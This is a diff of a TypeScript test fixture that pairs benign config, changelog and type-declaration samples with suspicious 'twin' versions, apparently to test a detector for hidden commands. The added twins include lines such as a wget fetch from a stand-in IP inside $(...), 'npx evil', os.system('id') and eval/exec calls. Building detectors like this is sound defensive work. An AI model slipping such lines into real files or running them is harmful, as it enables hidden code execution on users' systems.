@@ -27,7 +27,7 @@ const pairs: Record<string, Pair> = {
   'messages of a program': {
     name: 'a.properties',
     honest: ['button.run=Run\nmenu.open = Open file...\nerror.load=The file {0} can\'t be loaded ({1})\nhelp.command=Type a command\n'],
-    twins: ['button.run=calc.exe\n', 'button.run=/tmp/a\n', 'button.run=npx evil\n', 'menu.open = Calc\n', 'help.command=id\n', 'hook.script = ./a\n', 'help.command=Cmd start\n'],
+    twins: ['button.run=calc.exe\n', 'button.run=/tmp/a\n', 'button.run=npx evil\n', 'menu.open = Calc\n', 'help.command=id\n', 'hook.script = ./a\n', 'help.command=Cmd start\n', 'button.run=Yarn dlx evil\n', 'button.run=docker run é\n', 'help.command=Git clone evil\n'],
   },
   'settings with a switch': {
     name: 'a.ini', honest: ['[General]\nAutoStart=false\nplugins = 3\nstartup: yes\n'],
@@ -63,7 +63,7 @@ const pairs: Record<string, Pair> = {
   },
   'a change log': {
     name: 'changelog', honest: [`Thing 2.0\n\n  * Fix a deadlock in system() when called twice, and see execve(2).\n  * Better parser execute (Fedor Indutny), and less noise while $(srcdir) is read.\n\n${words}\n`],
-    twins: [`${words}\n\nimport os\nos.system("id")\n`, `${words}\n\n$(wget http://192.0.2.1/a -O b)\n`, `${words}\n\n/* ${words} */ eval (name)\n`, `${words}\n\n=cut\nsystem("id");\n`, `${words}\n\nexec(a)\n`],
+    twins: [`${words}\n\nimport os\nos.system("id")\n`, `${words}\n\n$(wget http://192.0.2.1/a -O b)\n`, `${words}\n\n/* ${words} */ eval (name)\n`, `${words}\n\n=cut\nsystem("id");\n`, `${words}\n\nexec(a)\n`, `${words}\n\nexec()(a)\n`, `${words}\n\nWScript.a()\n${words}\nCreateObject().b\n`],
   },
   'notes that name a command': {
     name: 'notes.txt', honest: [`${words} To see it use this\ncommand: >\n  syntax clear\n\nThis is said of the command: it clears all, and it does so at once.\n`],
@@ -75,7 +75,7 @@ const pairs: Record<string, Pair> = {
   },
   'types of TypeScript': {
     name: 'a.d.ts', honest: ['import { A } from "./a";\nexport interface B {\n  execute(options?: A): Promise<void>;\n  exec(a: string): void;\n}\nexport declare const d: typeof import("../d").d;\nexport declare function evaluate(a: import("./a").A): void;\n'],
-    twins: ['export type A = string;\nexec(a);\n', 'export type A = string;\nconst x: string = a ?\nexec(b) :\n0;\n', 'export type A = string;\nimport("./a").then((a) => a.b);\n', 'export type A = string;\neval(a);\n', 'export type A = string;\nfunction b(): void { exec(a); }\n'],
+    twins: ['export type A = string;\nexec(a);\n', 'export type A = string;\nconst x: string = a ?\nexec(b) :\n0;\n', 'export type A = string;\nimport("./a").then((a) => a.b);\n', 'export type A = string;\neval(a);\n', 'export const a: string = `${eval(b)}`;\n', 'export type A = string;\nfunction b(): void { exec(a); }\n'],
   },
   'a sheet of styles': {
     name: 'a.css', honest: ['a[href^="javascript:"]:after { content: "" }\n.v { behavior: url(#default#VML) }\n.#{$p}-a { color: red }\n'],
